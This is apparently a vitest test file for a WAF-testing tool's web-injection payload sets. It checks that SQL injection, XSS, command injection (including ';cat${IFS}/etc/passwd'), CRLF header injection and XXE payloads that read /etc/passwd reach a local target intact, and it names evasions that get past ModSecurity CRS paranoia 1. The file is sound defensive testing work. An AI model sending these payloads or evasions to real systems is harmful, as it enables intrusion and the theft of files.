import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { resolveConfiguration } from '../configuration.ts';
import { parseExperiment } from '../experiment-file.ts';
import type { Experiment, HttpProvider } from '../types.ts';
import { toExperimentYaml } from './render.ts';
import { RUN_ID_KEY } from './technique.ts';
import { commandInjection, crossSiteScripting, headerInjection, sqlInjection, xmlExternalEntity } from './web-injection.ts';

const RUN = 'web0000run1111';
const TARGET = 'http://127.0.0.1:8080';

/** The http providers of a rendered technique, after the run resolves its configuration. */
function requests(yaml: string, runId = RUN): HttpProvider[] {
  const parsed = parseExperiment(yaml);
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
  const r = resolveConfiguration(parsed.experiment, {}, { [RUN_ID_KEY]: runId });
  if (!r.ok) throw new Error(JSON.stringify(r.errors));
  const exp: Experiment = r.value.experiment;
  return exp.method.map((s) => ('ref' in s ? s.activity : s).provider as HttpProvider);
}

describe('web injection payload sets', () => {
  it("sends the payloads ModSecurity + CRS blocks at paranoia 1 as GET query parameters: ?id=1' OR '1'='1 and ?q=<script>alert(1)</script>", () => {
    const sqli = requests(toExperimentYaml(sqlInjection, {}, { target: TARGET, runId: RUN }));
    expect(sqli[0]).toMatchObject({ method: 'GET', url: 'http://127.0.0.1:8080/', arguments: { id: "1' OR '1'='1" } });
    const xss = requests(toExperimentYaml(crossSiteScripting, {}, { target: TARGET, runId: RUN }));
    expect(xss[0]).toMatchObject({ method: 'GET', arguments: { q: '<script>alert(1)</script>' } });
  });

  it('puts a canary naming the run in a benign extra parameter, or none when asked', () => {
    const [first] = requests(toExperimentYaml(sqlInjection, {}, { target: TARGET, runId: RUN }), 'other1234run');
    expect(first!.arguments).toEqual({ id: "1' OR '1'='1", bwk: 'bwk-canary-other1234run-web' });
    const [bare] = requests(toExperimentYaml(sqlInjection, { canaryParameter: '' }, { target: TARGET, runId: RUN }));
    expect(bare!.arguments).toEqual({ id: "1' OR '1'='1" });
  });

  it('keeps shell metacharacters literal through the file: $(id) and ${IFS} reach the target as written', () => {
    const sent = requests(toExperimentYaml(commandInjection, {}, { target: TARGET, runId: RUN })).map(
      (p) => (p.arguments as Record<string, string>)['host'],
    );
    expect(sent).toContain('$(id)');
    expect(sent).toContain(';cat${IFS}/etc/passwd');
  });

  it('sends form and JSON bodies by POST when asked', () => {
    const [form] = requests(toExperimentYaml(sqlInjection, { in: 'form', path: '/search' }, { target: TARGET, runId: RUN }));
    expect(form).toMatchObject({
      method: 'POST',
      url: 'http://127.0.0.1:8080/search',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    });
    const [json] = requests(toExperimentYaml(sqlInjection, { in: 'json' }, { target: TARGET, runId: RUN }));
    expect(json).toMatchObject({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: { id: "1' OR '1'='1" } });
  });

  it('bounds the list: limit takes the first payloads, extra payloads come after', () => {
    expect(requests(toExperimentYaml(sqlInjection, { limit: 2 }, { target: TARGET, runId: RUN }))).toHaveLength(2);
    const all = requests(toExperimentYaml(sqlInjection, { extraPayloads: ["1' OR sleep(0)#"] }, { target: TARGET, runId: RUN }));
    expect((all.at(-1)!.arguments as Record<string, string>)['id']).toBe("1' OR sleep(0)#");
  });

  it('carries CR LF in header-injection payloads through YAML unchanged', () => {
    const sent = requests(toExperimentYaml(headerInjection, { set: 'extended' }, { target: TARGET, runId: RUN }));
    expect((sent[0]!.arguments as Record<string, string>)['lang']).toBe(`en\r\nSet-Cookie: bwk=bwk-canary-${RUN}-crlf`);
    expect(sent.some((p) => p.headers['X-Forwarded-Host'] === `bwk-canary-${RUN}-host.invalid`)).toBe(true);
  });

  it('sends the baseline by default and adds the evasions that get past CRS paranoia 1 when asked', () => {
    const baseline = requests(toExperimentYaml(commandInjection, {}, { target: TARGET, runId: RUN }));
    const extended = requests(toExperimentYaml(commandInjection, { set: 'extended' }, { target: TARGET, runId: RUN }));
    const values = (ps: HttpProvider[]) => ps.map((p) => (p.arguments as Record<string, string>)['host']);
    expect(values(baseline)).not.toContain('127.0.0.1; id');
    expect(values(extended)).toEqual([...values(baseline), '127.0.0.1; id', '127.0.0.1 | id', '`id`']);
    const headers = requests(toExperimentYaml(headerInjection, {}, { target: TARGET, runId: RUN }));
    expect(headers.some((p) => 'X-Forwarded-Host' in p.headers)).toBe(false);
  });

  it('posts XXE documents as raw XML bodies', () => {
    const sent = requests(toExperimentYaml(xmlExternalEntity, {}, { target: TARGET, runId: RUN }));
    expect(sent[0]).toMatchObject({ method: 'POST', headers: { 'Content-Type': 'application/xml' } });
    expect(sent[0]!.body).toContain('<!ENTITY x SYSTEM "file:///etc/passwd">');
    expect(sent[2]!.body).toContain(`http://bwk-canary-${RUN}-xxe.invalid/x.dtd`);
  });

  it('never sends a destructive statement or command, even against a vulnerable target', () => {
    const everything = [sqlInjection, commandInjection]
      .flatMap((t) => requests(toExperimentYaml(t, {}, { target: TARGET, runId: RUN })))
      .map((p) => JSON.stringify(p.arguments));
    for (const s of everything) expect(s).not.toMatch(/\b(DROP|DELETE|UPDATE|INSERT|TRUNCATE|SHUTDOWN|rm|mkfs|dd|kill|reboot)\b/i);
  });

  it('delivers any payload of your own byte for byte, whatever $, quotes or line breaks it holds', () => {
    const payload = fc
      .string({ unit: 'grapheme', minLength: 1, maxLength: 60 })
      .filter((s) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(s));
    fc.assert(
      fc.property(
        fc.array(fc.oneof(payload, fc.constantFrom('${x}', '$$', '$', '${bulwark_run_id}', '\r\n', '\'"', '#{a}')), {
          minLength: 1,
          maxLength: 4,
        }),
        (parts) => {
          const value = parts.join('');
          const sent = requests(toExperimentYaml(sqlInjection, { extraPayloads: [value] }, { target: TARGET, runId: RUN }));
          expect((sent.at(-1)!.arguments as Record<string, string>)['id']).toBe(value);
        },
      ),
      { numRuns: 150 },
    );
  });
});
